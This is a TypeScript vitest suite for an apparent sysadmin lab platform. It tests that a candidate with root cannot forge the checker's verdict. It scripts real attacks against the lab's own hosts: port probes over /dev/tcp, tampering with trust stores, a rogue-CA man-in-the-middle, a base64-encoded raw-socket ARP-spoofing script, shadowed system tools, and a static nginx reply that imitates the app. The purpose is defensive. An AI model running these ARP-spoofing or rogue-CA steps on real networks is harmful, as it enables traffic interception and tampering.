import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Lab, LabEnvironment } from '../server/src/lab/index.js';
import { COLLECT_SEEN, b64, onHosts, passing, shadowTools, UNSHADOW_TOOLS, watchProcesses } from './forgery-helpers.js';
import { ShellDriver } from './shell-driver.js';
import { testLab } from './helpers.js';

/**
 * The verdict cannot be forged: each attack is what a cheating candidate with root on every host
 * they reach (and NET_ADMIN, NET_RAW on the workstation) would type into the terminal, and after
 * it the checks must still fail, because nothing was fixed. Each attack turned checks green before
 * checks moved to the checker.
 */
const TLS = 'tls-missing-intermediate';

describe('a candidate cannot forge the verdict', () => {
  let lab: Lab;
  let env: LabEnvironment;
  let shell: ShellDriver;
  let hosts: string[];

  beforeAll(async () => {
    lab = testLab();
    env = await lab.up(TLS, { seed: 'forgery-1', ttlMinutes: 30, owner: 'test' });
    shell = new ShellDriver(await lab.runtime.openShell(env.env, { cols: 200, rows: 50 }));
    await shell.run('true');
    hosts = env.rendered.hosts.filter((h) => !h.terminal).map((h) => h.name);
    expect(passing(await lab.checks(env))).toEqual([]);
  });

  afterAll(async () => {
    shell?.close();
    if (env) await lab.down(env.env.id);
  });

  it('the checker is in no hosts file or zone of the lab, and refuses every connection from the workstation', async () => {
    const ip = env.rendered.checker.ip;
    const seen = await onHosts(shell, [env.env.terminalHost, ...hosts], `grep -rIl --exclude-dir=proc -e '${ip.replace(/\./g, '\\.')}\\b' /etc /var/lib/bind 2>/dev/null | sed "s|^|$(hostname): |"; true`);
    expect(seen).not.toMatch(/: \/etc\//);
    const probe = await shell.run(
      `for p in 22 53 80 443 8080; do timeout 3 bash -c "echo > /dev/tcp/${ip}/$p" 2>/dev/null && echo "open $p"; done; ssh -o BatchMode=yes -o ConnectTimeout=3 ${ip} true 2>&1 | tail -1`,
      40_000,
    );
    expect(probe.output).not.toMatch(/open \d+/);
  });

  it('no check runs, and no check text passes, on a host the candidate controls while a round runs', async () => {
    // The old forgery: watch every host's process list and steal each `bash -s` script's stdin.
    await onHosts(shell, hosts, watchProcesses(20));
    const results = [await lab.checks(env), await lab.checks(env)].flat();
    expect(passing(results)).toEqual([]);
    const collected = await onHosts(shell, hosts, COLLECT_SEEN);
    expect(collected).not.toMatch(/(ns|web): /);
  });

  it('tools shadowed on every host change nothing: the checker uses its own', async () => {
    const site = env.rendered.variables.site as string;
    const fake = shadowTools(`Verify return code: 0 (ok)\n{"site-id": "${site}-api"}`);
    await onHosts(shell, [env.env.terminalHost, ...hosts], fake);
    expect(passing(await lab.checks(env))).toEqual([]);
    await onHosts(shell, [env.env.terminalHost, ...hosts], UNSHADOW_TOOLS);
  });

  it('trust anchors rewritten on every host change nothing: the checker trusts its own copy', async () => {
    const site = env.rendered.variables.site as string;
    // What passed before: add the intermediate to every root file a check might trust.
    const chain = `/etc/nginx/tls/${site}/chain.pem`;
    const { output } = await shell.run(`ssh -o BatchMode=yes web cat ${chain} > /tmp/inter.pem && wc -l < /tmp/inter.pem`);
    expect(Number(output.trim().split('\n').pop())).toBeGreaterThan(5);
    await shell.run(`for h in ${hosts.join(' ')}; do scp -q /tmp/inter.pem $h:/tmp/inter.pem; done`);
    await onHosts(
      shell,
      [env.env.terminalHost, ...hosts],
      'for f in /etc/ssl/lab/root.crt /root/pki/root/ca.crt /etc/ssl/certs/ca-certificates.crt /usr/local/share/ca-certificates/lab-root.crt; do [ -f $f ] && cat /tmp/inter.pem >> $f; done; [ -f /tmp/inter.pem ] && cat /tmp/inter.pem >> /etc/ssl/certs/ca-certificates.crt; true',
    );
    expect(passing(await lab.checks(env))).toEqual([]);
  });

  it('a rogue CA that re-issues the site and replaces every trust anchor the candidate can write changes nothing', async () => {
    const name = `${env.rendered.variables.site as string}.${env.rendered.variables.domain as string}`;
    const dir = `/etc/nginx/tls/${env.rendered.variables.site as string}`;
    // A full man-in-the-middle: the server now sends a leaf the rogue root signed directly.
    await onHosts(
      shell,
      ['web'],
      `set -e
cp ${dir}/cert.pem /root/cert.pem.real; cp ${dir}/privkey.pem /root/privkey.pem.real; cp /root/pki/root/ca.crt /root/ca.crt.real
lab-pki ca /tmp/rogue "Rogue Root" >/dev/null
lab-pki leaf /tmp/rogue /tmp/rogue ${name} >/dev/null
cp /tmp/rogue/${name}.crt ${dir}/cert.pem; cp /tmp/rogue/${name}.key ${dir}/privkey.pem
cp /tmp/rogue/ca.crt /root/pki/root/ca.crt
nginx -s reload; sleep 0.5`,
    );
    await shell.run('scp -q web:/tmp/rogue/ca.crt /tmp/rogue.crt');
    await shell.run(`for h in ${hosts.join(' ')}; do scp -q /tmp/rogue.crt $h:/tmp/rogue.crt; done`);
    await onHosts(
      shell,
      [env.env.terminalHost, ...hosts],
      'for f in /etc/ssl/lab/root.crt /usr/local/share/ca-certificates/lab-root.crt; do [ -f $f ] && cp /tmp/rogue.crt $f; done; cat /tmp/rogue.crt >> /etc/ssl/certs/ca-certificates.crt; true',
    );
    // The attack is real: a client on ns that trusts the rogue root accepts the server.
    const fooled = await shell.run(`ssh ns "curl -sS -o /dev/null -w '%{http_code}' --cacert /tmp/rogue.crt https://${name}/"`);
    expect(fooled.output).toContain('200');
    expect(passing(await lab.checks(env))).toEqual([]);
    await onHosts(shell, ['web'], `cp /root/cert.pem.real ${dir}/cert.pem; cp /root/privkey.pem.real ${dir}/privkey.pem; cp /root/ca.crt.real /root/pki/root/ca.crt; nginx -s reload; sleep 0.5`);
  });

  it('neighbour spoofing from the workstation does not move the checker: its neighbours are pinned', async () => {
    const web = env.rendered.hosts.find((h) => h.name === 'web')!;
    const checkerIp = env.rendered.checker.ip;
    const ns = env.rendered.hosts.find((h) => h.name === 'ns')!;
    // ns is the control: it has an unpinned entry for web, which the same replies must move.
    await lab.runtime.exec(env.env, 'ns', `ping -c1 -W1 ${web.ip} >/dev/null; ip neigh show ${web.ip}`, 10);
    // ARP replies "web is at the workstation" sent at the checker and ns for a few seconds.
    const spoof = `import socket, struct, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
mine = s.getsockname()[4]
ip = lambda a: socket.inet_aton(a)
for _ in range(30):
    target = b"\\xff" * 6
    for victim in ("${checkerIp}", "${ns.ip}"):
        s.send(target + mine + b"\\x08\\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mine + ip("${web.ip}") + target + ip(victim))
    time.sleep(0.1)
print("spoofed")
`;
    const { output } = await shell.run(`echo ${b64(spoof)} | base64 -d | python3`, 30_000);
    expect(output).toContain('spoofed');
    const wsMac = (await lab.runtime.exec(env.env, env.env.terminalHost, 'cat /sys/class/net/eth0/address', 10)).output.trim();
    expect((await lab.runtime.exec(env.env, 'ns', `ip neigh show ${web.ip}`, 10)).output).toContain(wsMac);
    const neigh = await lab.runtime.exec(env.env, 'checker', `ip neigh show ${web.ip}`, 10);
    expect(neigh.output).toContain('PERMANENT');
    const webMac = (await lab.runtime.exec(env.env, 'web', 'cat /sys/class/net/eth0/address', 10)).output.trim();
    expect(neigh.output).toContain(webMac);
    expect(passing(await lab.checks(env))).toEqual([]);
  });

  it('the reference fix still turns every check green after all of the above', async () => {
    await lab.solve(env);
    const results = await lab.checks(env);
    expect(results.filter((r) => !r.passed).map((r) => `${r.id}: ${r.message}`)).toEqual([]);
  });
});

/**
 * A static imitation of the app: the proxy answers the exact body the real app gives, so users
 * see a working site, yet nothing was fixed. Only the app can sign the checker's challenge.
 */
describe.each(['http-bad-upstream-502', 'tcp-loopback-bind'])('a static reply in the proxy does not pass %s', (id) => {
  let lab: Lab;
  let env: LabEnvironment;
  let shell: ShellDriver;

  beforeAll(async () => {
    lab = testLab();
    env = await lab.up(id, { seed: 'forgery-static', ttlMinutes: 30, owner: 'test' });
    shell = new ShellDriver(await lab.runtime.openShell(env.env, { cols: 200, rows: 50 }));
    await shell.run('true');
  });

  afterAll(async () => {
    shell?.close();
    if (env) await lab.down(env.env.id);
  });

  it('serves the real body from the proxy and stays red', async () => {
    const proxy = env.rendered.hosts.find((h) => h.image === 'web')!.name;
    const app = env.rendered.hosts.find((h) => h.image === 'app')!.name;
    // What the real app answers, read where it runs.
    const real = await shell.run(`ssh ${app} 'curl -s http://127.0.0.1:$(jq -r .port /etc/app/app.json)/' > /tmp/body.json; cat /tmp/body.json`);
    const body = real.output.trim().split('\n').find((l) => l.startsWith('{'));
    expect(body, 'the app answered on its host').toBeTruthy();
    await shell.run(`scp -q /tmp/body.json ${proxy}:/tmp/body.json`);
    await onHosts(
      shell,
      [proxy],
      `set -e
body=$(tr -d '\\n' < /tmp/body.json)
for f in $(grep -rl proxy_pass /etc/nginx); do
  sed -i -E "s#proxy_pass [^;]*;#default_type application/json; return 200 '$body';#" "$f"
done
nginx -t 2>/dev/null && nginx -s reload && sleep 0.5`,
    );
    // The attack works for users: the site answers 200 with the app's own body.
    const site = await shell.run(`curl -s -m 5 -w ' %{http_code}' http://${proxy}/`);
    expect(site.output).toContain(body!.slice(0, 20));
    expect(site.output).toMatch(/ 200/);
    expect(passing(await lab.checks(env))).toEqual([]);
  });
});
